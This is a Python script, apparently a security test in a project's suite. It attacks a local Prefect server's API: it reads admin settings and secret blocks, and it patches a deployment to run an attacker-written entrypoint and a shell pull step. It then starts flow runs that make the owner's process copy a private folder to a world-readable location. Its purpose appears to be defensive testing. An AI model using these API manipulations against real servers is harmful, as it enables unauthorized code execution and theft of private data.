"""An attack on the API of a Prefect server that serves a recipe: have its owner's process copy a private folder.

Run as a process of its own, as any other user of the machine would::

    python tests/flows/orchestration/attack_api.py http://127.0.0.1:PORT/api PRIVATE_FOLDER READABLE_FOLDER

It prints what each request was answered, and on its last line how much of the private folder it can read in the end.
With ``--auth USER:PASSWORD`` it knows the password, with ``--change`` it also rewrites the deployment first.
"""

from __future__ import annotations

import argparse
import base64
import json
import time
import urllib.error
import urllib.request
import uuid
from pathlib import Path
from typing import Any

RECIPE = """\
name: stolen
cohort: {{source: {private}, public_phrase: x}}
preprocess: {{size: [32, 32]}}
"""
ENDED = {"COMPLETED", "FAILED", "CRASHED", "CANCELLED"}


class Api:
    """A Prefect API, requested with or without a password."""

    def __init__(self, url: str, auth: str | None) -> None:
        self.url = url
        self.headers = {"Content-Type": "application/json"}
        if auth is not None:
            self.headers["Authorization"] = "Basic " + base64.b64encode(auth.encode()).decode()
            client = str(uuid.uuid4())
            status, token = self.ask("GET", f"/csrf-token?client={client}")
            if status == 200:
                self.headers |= {"Prefect-Csrf-Token": token["token"], "Prefect-Csrf-Client": client}

    def ask(self, method: str, path: str, body: Any = None) -> tuple[int, Any]:
        data = None if body is None else json.dumps(body).encode()
        request = urllib.request.Request(self.url + path, data, self.headers, method=method)  # noqa: S310
        try:
            with urllib.request.urlopen(request, timeout=20) as answer:  # noqa: S310
                content = answer.read()
                return answer.status, json.loads(content) if content else None
        except urllib.error.HTTPError as error:
            return error.code, None


def show(what: str, status: int) -> None:
    print(f"{what}: {status}", flush=True)


def look_around(api: Api) -> list[dict[str, Any]]:
    """Read whatever can be read; the deployments found."""
    for path in ("/admin/settings", "/admin/version", "/block_types/slug/secret/block_documents"):
        show(f"GET {path}", api.ask("GET", path)[0])
    for path in ("/flows/filter", "/flow_runs/filter", "/logs/filter", "/variables/filter", "/block_documents/filter"):
        show(f"POST {path}", api.ask("POST", path, {})[0])
    status, deployments = api.ask("POST", "/deployments/filter", {})
    show("POST /deployments/filter", status)
    return deployments or []


def write_everywhere(api: Api) -> None:
    """Write what needs no deployment."""
    show("POST /variables", api.ask("POST", "/variables/", {"name": f"v{uuid.uuid4().hex[:6]}", "value": "1"})[0])
    status, flow = api.ask("POST", "/flows/", {"name": "medphantom-evil"})
    show("POST /flows", status)
    flow_id = flow["id"] if flow else str(uuid.uuid4())
    show("POST /deployments", api.ask("POST", "/deployments/", {"name": "evil", "flow_id": flow_id})[0])
    show("POST /flow_runs", api.ask("POST", "/flow_runs/", {"flow_id": flow_id})[0])
    show("POST /work_pools", api.ask("POST", "/work_pools/", {"name": f"w{uuid.uuid4().hex[:6]}"})[0])


def change(api: Api, deployment: str, folder: Path) -> None:
    """Let the deployment check nothing and name other code."""
    program = folder / "evil.py"
    program.write_text(
        "from pathlib import Path\n"
        "from prefect import flow\n"
        f"Path({str(folder / 'code-was-run')!r}).write_text('x')\n"
        "@flow\n"
        "def evil(recipe: str = '', settings: list = [], out: str = '', fresh: bool = False):\n"
        "    pass\n"
    )
    step = {"prefect.deployments.steps.run_shell_script": {"script": f"touch {folder / 'code-was-run'}"}}
    changes: list[dict[str, Any]] = [
        {"enforce_parameter_schema": False},
        {"entrypoint": f"{program}:evil", "path": str(folder)},
        {"pull_steps": [step]},
        {"job_variables": {"env": {"MEDPHANTOM_SERVED": "{}"}}},
    ]
    for body in changes:
        show(f"PATCH /deployments {sorted(body)}", api.ask("PATCH", f"/deployments/{deployment}", body)[0])


def start_runs(api: Api, deployment: str, recipe: Path, out: Path) -> list[str]:
    """Ask for runs of another recipe, another folder or other settings; the runs that were made."""
    made = []
    everything = {"recipe": str(recipe), "settings": [], "out": str(out), "fresh": False}
    for parameters in (
        everything,
        {"recipe": str(recipe), "out": str(out)},
        {"out": str(out)},
        {"settings": [f"cohort.source={recipe.parent}"]},
    ):
        status, run = api.ask("POST", f"/deployments/{deployment}/create_flow_run", {"parameters": parameters})
        show(f"POST /deployments/…/create_flow_run {sorted(parameters)}", status)
        if run:
            made.append(run["id"])
    return made


def loot(out: Path) -> tuple[int, int]:
    """Files and bytes below ``out`` that anybody may read."""
    sizes = []
    for file in out.parent.glob(f"{out.name}*/cohort/**/*"):
        folders = [parent for parent in file.parents if parent.is_relative_to(out.parent)]
        if file.is_file() and file.stat().st_mode & 0o004 and all(f.stat().st_mode & 0o001 for f in folders):
            sizes.append(len(file.read_bytes()))
    return len(sizes), sum(sizes)


def main() -> None:
    parser = argparse.ArgumentParser(description="Attack the API of a Prefect server.")
    parser.add_argument("api")
    parser.add_argument("private", type=Path)
    parser.add_argument("readable", type=Path)
    parser.add_argument("--auth")
    parser.add_argument("--change", action="store_true")
    parser.add_argument("--seconds", type=float, default=120.0)
    given = parser.parse_args()
    given.readable.mkdir(parents=True, exist_ok=True)
    given.readable.chmod(0o777)
    recipe, out = given.readable / "evil.yaml", given.readable / "loot"
    recipe.write_text(RECIPE.format(private=given.private))

    api = Api(given.api, given.auth)
    deployments = look_around(api)
    write_everywhere(api)
    runs: list[str] = []
    # where none is shown, still try: an id may have been seen elsewhere
    for deployment in [found["id"] for found in deployments if found["name"] != "evil"] or [str(uuid.uuid4())]:
        if given.change:
            change(api, deployment, given.readable)
        runs += start_runs(api, deployment, recipe, out)
    deadline = time.monotonic() + given.seconds
    states: dict[str, str] = {}
    while runs and time.monotonic() < deadline and not loot(out)[0]:
        states = {run: (api.ask("GET", f"/flow_runs/{run}")[1] or {}).get("state_type", "?") for run in runs}
        if set(states.values()) <= ENDED:
            break
        time.sleep(1.0)
    print(f"runs: {len(runs)} made, ended as {sorted(set(states.values()))}")
    print(f"code of the attacker was run: {(given.readable / 'code-was-run').exists()}")
    files, total = loot(out)
    print(f"outcome: {files} files, {total} bytes of the private folder can be read by anybody")


if __name__ == "__main__":
    main()
